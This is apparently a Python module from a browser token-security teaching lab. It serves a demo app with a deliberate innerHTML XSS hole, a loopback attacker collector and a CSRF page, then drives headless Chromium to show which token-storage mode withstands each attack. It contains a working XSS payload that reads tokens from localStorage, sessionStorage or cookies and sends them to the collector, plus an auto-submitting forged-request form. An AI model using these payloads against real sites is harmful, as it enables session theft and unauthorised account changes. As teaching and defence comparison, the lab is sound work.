"""Tokens in the browser (notebook 14): a demo single-page app, its API, an attacker, Chromium.

``serve_spa(preset)`` serves, on one loopback origin, the demo app
(``labkit/data/spa/index.html``), its login, its API behind the kit's gateway
(an HTTP API with the kit's Lambda authorizer, ``labkit.aws.cookies``), and a
backend-for-frontend (BFF). The page keeps the token where its ``mode`` says:

===========  ===============================================================
mode         where the token lives
===========  ===============================================================
local        ``localStorage``, sent as ``Authorization: Bearer``
cookie       an ``HttpOnly; Secure; SameSite`` cookie; the CSRF token in
             ``sessionStorage``, sent as ``X-CSRF-Token``
fingerprint  ``sessionStorage`` plus header; OWASP's sidejacking fingerprint
             in an ``HttpOnly`` cookie, its SHA-256 in the token (``fgp``)
bff          nowhere in the browser: an opaque session cookie; the BFF keeps
             the token and calls the API with it (OAuth 2.0 for
             Browser-Based Apps, draft-ietf-oauth-browser-based-apps,
             "Backend For Frontend (BFF)")
===========  ===============================================================

The page has one deliberate bug, DEMO ONLY: its search term (from the URL
fragment) goes into ``innerHTML``, an XSS sink. ``serve_attacker()`` is the
other side: a collector for stolen values and a page that forges requests,
on another loopback port. ``http://127.0.0.1:OTHER`` is another *origin* but
the same *site* (ports do not count, RFC 6265bis section 5.2), and
``http://localhost:OTHER`` is another site, so both kinds of CSRF can be shown
on one machine.

``chromium()`` drives Debian's ``/usr/bin/chromium`` through playwright (never
``playwright install``); ``steal_with_xss`` and ``forge_request`` are the two
attacks, each returning what happened and a screenshot.
"""

from __future__ import annotations

import collections
import html
import json
import re
import secrets
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from importlib import resources
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import parse_qs, quote

import requests
from werkzeug.wrappers import Request, Response

from labkit.aws import presets
from labkit.aws.clock import Clock, system_clock
from labkit.aws.cookies import (
    FINGERPRINT_COOKIE,
    TOKEN_COOKIE,
    BrowserAuthorizer,
    new_secret,
    parse_cookie_header,
    set_cookie,
)
from labkit.aws.gateway import Gateway, Route
from labkit.aws.idp import ROUTES as IDP_ROUTES
from labkit.aws.idp import IdentityProvider, IdpError
from labkit.aws.policy import AuthPolicy
from labkit.aws.server import listen, url_of
from labkit.errors import ConfigurationError, InvalidTokenError, LabkitError

__all__ = [
    "CHROMIUM",
    "CHROMIUM_ARGS",
    "MODES",
    "SESSION_COOKIE",
    "Attacker",
    "Chromium",
    "Forgery",
    "Spa",
    "Theft",
    "call_api",
    "chromium",
    "chromium_missing",
    "forge_request",
    "serve_attacker",
    "serve_spa",
    "steal_with_xss",
    "without_ports",
]

MODES = ("local", "cookie", "fingerprint", "bff")
SESSION_COOKIE = "__Host-session"
"""The BFF's session cookie: an opaque random id, the token stays on the server."""
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
)
_MAX_NAME = 40
T = TypeVar("T")
_MAX_SESSIONS = 1000
_MAX_LOOT = 1000
"""Values the attacker's collector keeps; past that it answers 429 (any local process can call
it, and an unbounded list was memory for the asking)."""
_TIMEOUT_MS = 15_000


# The app and its API -----------------------------------------------------------------------------


class _RecordingAuthorizer(BrowserAuthorizer):
    """The kit's authorizer, keeping the last reasons for a refusal (for the notebook)."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.refusals: collections.deque[str] = collections.deque(maxlen=50)

    def _judge(self, request: Any) -> dict[str, Any]:
        try:
            return super()._judge(request)
        except LabkitError as exc:
            self.refusals.append(exc.message)
            raise


@dataclass
class Spa:
    """A running demo app: its ``url``, the gateway behind it, what reached it."""

    url: str
    preset: str
    same_site: str
    gateway: Gateway
    authorizer: _RecordingAuthorizer
    idp: IdentityProvider
    names: dict[str, str] = field(default_factory=dict)  # sub -> display name (the state)
    seen: collections.deque[dict[str, Any]] = field(
        default_factory=lambda: collections.deque(maxlen=200)
    )
    sessions: dict[str, str] = field(default_factory=dict)  # BFF: session id -> access token

    @property
    def refusals(self) -> list[str]:
        """Why the authorizer refused, newest last (what CloudWatch would show)."""
        return list(self.authorizer.refusals)

    def last(self, method: str, path: str) -> dict[str, Any] | None:
        """The latest request seen for ``method path``: its origin, cookies and status."""
        return next(
            (r for r in reversed(self.seen) if (r["method"], r["path"]) == (method, path)), None
        )


def _policy(claims: dict[str, Any], arn: str) -> dict[str, Any]:
    """The app's policy: any signed-in user may read and rename themselves."""
    sub = str(claims.get("sub") or "")
    if not sub:
        raise InvalidTokenError("the token has no 'sub': no principal to authorize")
    policy = AuthPolicy.for_arn(sub, arn).allow("GET", "/api/me").allow("POST", "/api/me")
    role = claims.get("role") if isinstance(claims.get("role"), str) else "none"
    return policy.build(context={"sub": sub, "role": role})


@contextmanager
def serve_spa(
    preset: str = "hardened",
    *,
    same_site: str = "Strict",
    host: str = "127.0.0.1",
    clock: Clock | None = None,
) -> Iterator[Spa]:
    """Serve the demo app, its API (``preset``'s authorizer) and its BFF for a ``with`` block.

    ``same_site`` is the ``SameSite`` attribute of every cookie the app sets
    (``Strict``, ``Lax`` or ``None``), so a lesson can show what each lets through.
    The API is an HTTP API with the kit's Lambda authorizer and caching off
    (see ``labkit.aws.cookies`` on why a CSRF verdict must not be cached by cookie).
    """
    if same_site not in ("Strict", "Lax", "None"):
        raise ConfigurationError(f"same_site is Strict, Lax or None, not {same_site!r}")
    clock = system_clock if clock is None else clock
    service = presets.build(preset, clock=clock)
    authorizer = _RecordingAuthorizer(
        service.config,
        key=service.key,
        verifier=service.verifier,
        is_revoked=service.idp.is_revoked,
        clock=clock,
        policy=_policy,
        browser=service.browser,
    )
    holder: dict[str, Spa] = {}
    app = _App(holder)
    routes = [Route(m, p, service.idp.handle, authorize=False) for m, p in IDP_ROUTES]
    routes += [
        Route("GET", "/", app.page, authorize=False),
        Route("POST", "/spa/login", app.login, authorize=False),
        Route("GET", "/api/me", app.me),
        Route("POST", "/api/me", app.me),
        Route("GET", "/bff/api/me", app.bff, authorize=False),
        Route("POST", "/bff/api/me", app.bff, authorize=False),
    ]
    gateway = Gateway(
        routes, kind="http", authorizer=authorizer, identity_sources=(), cache_ttl=0, clock=clock
    )
    server = listen(_Recorder(gateway, holder), host, 0)
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    try:
        url = url_of(host, server.server_port)
        spa = Spa(url, preset, same_site, gateway, authorizer, service.idp)
        holder["spa"] = spa
        service.idp.jwks_uri = f"{spa.url}/.well-known/jwks.json"
        yield spa
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)
        service.close()


class _Recorder:
    """WSGI middleware: note each request's method, path, Origin, cookie names and status."""

    def __init__(self, app: Gateway, holder: dict[str, Spa]) -> None:
        self.app, self.holder = app, holder

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Any:
        request = Request(environ)
        note = {
            "method": request.method,
            "path": request.path,
            "origin": request.headers.get("Origin"),
            "cookies": sorted(parse_cookie_header(request.headers.get("Cookie", ""))),
            "status": None,
        }

        def start(status: str, headers: Any, *args: Any) -> Any:
            note["status"] = int(status.split()[0])
            return start_response(status, headers, *args)

        if "spa" in self.holder:
            self.holder["spa"].seen.append(note)
        return self.app(environ, start)


class _App:
    """The app's Lambda handlers: the page, the login, the API, the BFF."""

    def __init__(self, holder: dict[str, Spa]) -> None:
        self.holder = holder
        self._lock = threading.Lock()

    @property
    def spa(self) -> Spa:
        return self.holder["spa"]

    def page(self, event: Mapping[str, Any], context: object = None) -> dict[str, Any]:
        html = resources.files("labkit").joinpath("data/spa/index.html").read_text("utf-8")
        return {
            "statusCode": 200,
            "headers": {"Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store"},
            "body": html,
        }

    def login(self, event: Mapping[str, Any], context: object = None) -> dict[str, Any]:
        body = _json_body(event)
        if body is None:
            return _json(400, {"message": 'send JSON {"username", "password", "mode"}'})
        mode = body.get("mode", "local")
        if mode not in MODES:
            return _json(400, {"message": f"mode must be one of {', '.join(MODES)}"})
        idp = self.spa.idp
        try:
            granted = idp.login(body.get("username"), body.get("password"))
        except IdpError as exc:
            return _json(exc.status, {"message": str(exc)})
        except LabkitError as exc:
            return _json(400, {"message": exc.message})
        sub = str(body["username"])
        scopes = tuple(granted["scope"].split())
        role = idp.users[sub].role
        same_site = self.spa.same_site
        if mode == "local":
            return _json(200, {"access_token": idp.issue(sub, role, scopes)})
        if mode == "cookie":
            csrf, csrf_hash = new_secret()
            token = idp.issue(sub, role, scopes, csrf=csrf_hash)
            cookie = set_cookie(TOKEN_COOKIE, token, same_site=same_site, max_age=idp.access_ttl)
            return _json(200, {"csrf_token": csrf}, cookies=[cookie])
        if mode == "fingerprint":
            fgp, fgp_hash = new_secret()
            token = idp.issue(sub, role, scopes, fgp=fgp_hash)
            cookie = set_cookie(FINGERPRINT_COOKIE, fgp, same_site=same_site)
            return _json(200, {"access_token": token}, cookies=[cookie])
        session = secrets.token_urlsafe(32)
        with self._lock:
            if len(self.spa.sessions) >= _MAX_SESSIONS:
                self.spa.sessions.pop(next(iter(self.spa.sessions)))
            self.spa.sessions[session] = idp.issue(sub, role, scopes)
        cookie = set_cookie(SESSION_COOKIE, session, same_site=same_site)
        return _json(200, {"message": "signed in; the token stays on the server"}, cookies=[cookie])

    def me(self, event: Mapping[str, Any], context: object = None) -> dict[str, Any]:
        """GET: who am I; POST ``display_name=...``: rename (the state a CSRF changes)."""
        who = ((event.get("requestContext") or {}).get("authorizer") or {}).get("lambda") or {}
        sub = str(who.get("sub") or "")
        if not sub:
            return _json(401, {"message": "no authenticated principal"})
        if _method(event) == "POST":
            name = _form_value(event, "display_name")
            if name is None:
                return _json(400, {"message": f"display_name: 1 to {_MAX_NAME} printable chars"})
            with self._lock:
                self.spa.names[sub] = name
        return _json(200, {"sub": sub, "display_name": self.spa.names.get(sub, sub)})

    def bff(self, event: Mapping[str, Any], context: object = None) -> dict[str, Any]:
        """The BFF: session cookie in, the API called with the token it keeps, answer out."""
        jar = parse_cookie_header("; ".join(c for c in event.get("cookies") or [] if c))
        token = self.spa.sessions.get(jar.get(SESSION_COOKIE, ""))
        if token is None:
            return _json(401, {"message": "no session"})
        method = _method(event)
        headers = {k.lower(): v for k, v in (event.get("headers") or {}).items()}
        if method == "POST" and headers.get("origin") != self.spa.url:  # CSRF: same origin only
            return _json(403, {"message": "cross-origin request refused by the BFF"})
        data = event.get("body") if method == "POST" else None
        reply = call_api(self.spa.url, token, method=method, data=data)
        return {
            "statusCode": reply.status_code,
            "headers": {"Content-Type": "application/json"},
            "body": reply.text,
        }


def call_api(
    url: str,
    token: str | None = None,
    *,
    method: str = "GET",
    path: str = "/api/me",
    cookies: Mapping[str, str] | None = None,
    headers: Mapping[str, str] | None = None,
    data: str | None = None,
) -> requests.Response:
    """One request to the app's API from Python ("elsewhere": no browser, no page cookies)."""
    sent = dict(headers or {})
    if token is not None:
        sent["Authorization"] = f"Bearer {token}"
    if data is not None:
        sent.setdefault("Content-Type", "application/x-www-form-urlencoded")
    return requests.request(
        method, f"{url}{path}", headers=sent, cookies=dict(cookies or {}), data=data, timeout=10
    )


def _method(event: Mapping[str, Any]) -> str:
    return str(((event.get("requestContext") or {}).get("http") or {}).get("method", ""))


def _json_body(event: Mapping[str, Any]) -> dict[str, Any] | None:
    from labkit import tokens

    try:
        body = tokens.load_json(event.get("body") or "", "body", error=LabkitError)
    except LabkitError:
        return None
    return body if isinstance(body, dict) else None


def _form_value(event: Mapping[str, Any], name: str) -> str | None:
    """``name`` from a form body (``a=b``) or JSON; printable, 1 to 40 characters, else None."""
    raw = event.get("body") or ""
    if event.get("isBase64Encoded"):
        return None
    body = _json_body(event)
    value = body.get(name) if body is not None else (parse_qs(raw).get(name) or [None])[0]
    if not isinstance(value, str) or not 0 < len(value) <= _MAX_NAME or not value.isprintable():
        return None
    return value


def _json(status: int, body: Any, *, cookies: list[str] | None = None) -> dict[str, Any]:
    answer: dict[str, Any] = {
        "statusCode": status,
        "headers": {"Content-Type": "application/json", "Cache-Control": "no-store"},
        "body": json.dumps(body),
    }
    if cookies:
        answer["cookies"] = cookies
    return answer


# The attacker ------------------------------------------------------------------------------------


@dataclass
class Attacker:
    """The attacker's server on another loopback port: a collector and a forging page.

    ``url`` (``http://127.0.0.1:PORT``) is the same site as the app (another
    origin, like a sibling subdomain); ``cross_site_url``
    (``http://localhost:PORT``) is another site.
    """

    url: str
    cross_site_url: str
    stolen: list[str] = field(default_factory=list)


_FORGE_PAGE = """<!doctype html><meta charset="utf-8"><title>Win a prize</title>
<body><h2>Congratulations! (the attacker's page)</h2>
<form id="f" method="POST" action="%(action)s">
<input type="hidden" name="display_name" value="pwned-by-csrf"></form>
<script>document.getElementById("f").submit();</script></body>"""
_LOOT_PAGE = """<!doctype html><meta charset="utf-8"><title>Loot</title>
<body><h2>The attacker's collector</h2><p>Received from the XSS payload:</p>
<pre style="white-space: pre-wrap; word-break: break-all">%(loot)s</pre></body>"""


@contextmanager
def serve_attacker(target: str, *, host: str = "127.0.0.1") -> Iterator[Attacker]:
    """The attacker's collector (``/collect?t=``, shown at ``/loot``) and CSRF page (``/forge``).

    ``/forge`` is a page that submits a form to ``target``'s ``POST /api/me``
    as soon as it loads: a top-level navigation, as in the classic CSRF.
    """
    stolen: list[str] = []

    @Request.application
    def app(request: Request) -> Response:
        if request.path == "/collect":
            if len(stolen) >= _MAX_LOOT:
                return Response(b"", status=429)
            stolen.append(request.args.get("t", "")[:8192])
            return Response(b"", status=204)
        if request.path == "/forge":  # a classic CSRF: a form that posts itself, top level
            action = html.escape(f"{target}/api/me", quote=True)  # an attribute: quotes too
            page = _FORGE_PAGE % {"action": action}
            return Response(page, content_type="text/html; charset=utf-8")
        if request.path == "/loot":
            loot = html.escape(stolen[-1] if stolen else "(nothing yet)")
            return Response(_LOOT_PAGE % {"loot": loot}, content_type="text/html; charset=utf-8")
        return Response("not found", status=404)

    server = listen(app, host, 0)  # type: ignore[arg-type]
    thread = threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    )
    thread.start()
    port = server.server_port
    try:
        yield Attacker(url_of(host, port), f"http://localhost:{port}", stolen)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


# Chromium ----------------------------------------------------------------------------------------


def without_ports(text: str) -> str:
    """``text`` with loopback ports shown as ``<port>`` (they change on every run)."""
    return re.sub(r"(127\.0\.0\.1|localhost):\d+", r"\1:<port>", text)


def chromium_missing() -> str | None:
    """Why the browser demos cannot run here (no Chromium, no playwright), or None."""
    if not CHROMIUM.exists():
        return f"no Chromium at {CHROMIUM}: install Debian's chromium package"
    try:
        import playwright.sync_api  # noqa: F401
    except ImportError:
        return "playwright is not installed (pip install playwright; never `playwright install`)"
    return None


class Chromium:
    """Headless Chromium owned by one worker thread; ``run(fn, ...)`` calls ``fn(browser, ...)``.

    Playwright's sync API refuses to run where an asyncio loop is running, as
    in a Jupyter kernel, and its objects belong to the thread that made them:
    so one dedicated thread launches the browser and runs every call.
    """

    def __init__(self) -> None:
        self._pool = ThreadPoolExecutor(max_workers=1, thread_name_prefix="labkit-chromium")
        self._driver: Any = None
        self._browser: Any = None
        try:
            self._pool.submit(self._launch).result()
        except BaseException:
            self.close()
            raise

    def _launch(self) -> None:
        from playwright.sync_api import sync_playwright

        self._driver = sync_playwright().start()
        self._browser = self._driver.chromium.launch(
            executable_path=str(CHROMIUM), args=list(CHROMIUM_ARGS)
        )

    def run(self, fn: Callable[..., T], *args: Any, **kwargs: Any) -> T:
        """``fn(browser, *args, **kwargs)`` in the browser's thread; its result or its error."""
        return self._pool.submit(fn, self._browser, *args, **kwargs).result()

    def close(self) -> None:
        def stop() -> None:
            if self._browser is not None:
                self._browser.close()
            if self._driver is not None:
                self._driver.stop()

        self._pool.submit(stop).result()
        self._pool.shutdown()


@contextmanager
def chromium() -> Iterator[Chromium]:
    """Headless Debian Chromium through playwright, for the length of a ``with`` block."""
    missing = chromium_missing()
    if missing:
        raise ConfigurationError(missing)
    browser = Chromium()
    try:
        yield browser
    finally:
        browser.close()


@dataclass(frozen=True)
class Theft:
    """What an XSS payload in the app found and sent to the attacker, and the page's picture."""

    mode: str
    stolen: str
    screenshot: bytes = field(repr=False)  # the app's page, payload run
    loot: bytes = field(repr=False)  # the attacker's collector page


def _payload(attacker: Attacker) -> str:
    """The XSS payload: read every storage a token could be in, send it to the collector."""
    read = (
        "localStorage.getItem('access_token')||sessionStorage.getItem('access_token')"
        "||document.cookie||'(nothing)'"
    )
    return (
        f"<img src=x onerror=\"new Image().src='{attacker.url}/collect?t='"
        f'+encodeURIComponent({read})">'
    )


def _signed_in_page(browser: Any, spa: Spa, mode: str) -> tuple[Any, Any]:
    context = browser.new_context(viewport={"width": 900, "height": 420})
    page = context.new_page()
    page.set_default_timeout(_TIMEOUT_MS)
    page.goto(f"{spa.url}/?mode={mode}")
    page.evaluate("() => window.lab.login('alice', 'wonderland')")
    return context, page


def steal_with_xss(chromium: Chromium, spa: Spa, attacker: Attacker, mode: str) -> Theft:
    """Sign alice in (``mode``), open the app's link carrying the XSS payload, collect the loot."""
    if mode not in MODES:
        raise ConfigurationError(f"mode must be one of {', '.join(MODES)}, got {mode!r}")
    return chromium.run(_steal, spa, attacker, mode)


def _steal(browser: Any, spa: Spa, attacker: Attacker, mode: str) -> Theft:
    before = len(attacker.stolen)
    context, page = _signed_in_page(browser, spa, mode)
    try:
        page.goto(f"{spa.url}/?mode={mode}#q={quote(_payload(attacker))}")
        deadline = time.monotonic() + _TIMEOUT_MS / 1000
        while len(attacker.stolen) == before and time.monotonic() < deadline:
            page.wait_for_timeout(50)
        shot = page.screenshot()
        page.goto(f"{attacker.url}/loot")
        loot = page.screenshot()
    finally:
        context.close()
    if len(attacker.stolen) == before:
        raise ConfigurationError("the XSS payload did not report back within 15 s")
    return Theft(mode, attacker.stolen[-1], shot, loot)


@dataclass(frozen=True)
class Forgery:
    """A forged cross-origin POST: from where, whether the token cookie went, the result."""

    origin: str
    cookie_sent: bool
    status: int | None
    display_name: str
    screenshot: bytes = field(repr=False)


def forge_request(chromium: Chromium, spa: Spa, attacker: Attacker, *, cross_site: bool) -> Forgery:
    """Alice signs in (cookie mode), then visits the attacker's page, which POSTs to the API."""
    return chromium.run(_forge, spa, attacker, cross_site)


def _forge(browser: Any, spa: Spa, attacker: Attacker, cross_site: bool) -> Forgery:
    context, page = _signed_in_page(browser, spa, "cookie")
    try:
        spa.names.pop("alice", None)
        spa.seen.clear()
        site = attacker.cross_site_url if cross_site else attacker.url
        with page.expect_navigation(url=f"{spa.url}/api/me"):
            page.goto(f"{site}/forge")
        shot = page.screenshot()  # the API's answer to the forged POST, as the browser got it
    finally:
        context.close()
    seen = spa.last("POST", "/api/me") or {}
    return Forgery(
        site,
        TOKEN_COOKIE in seen.get("cookies", []),
        seen.get("status"),
        spa.names.get("alice", "alice"),
        shot,
    )
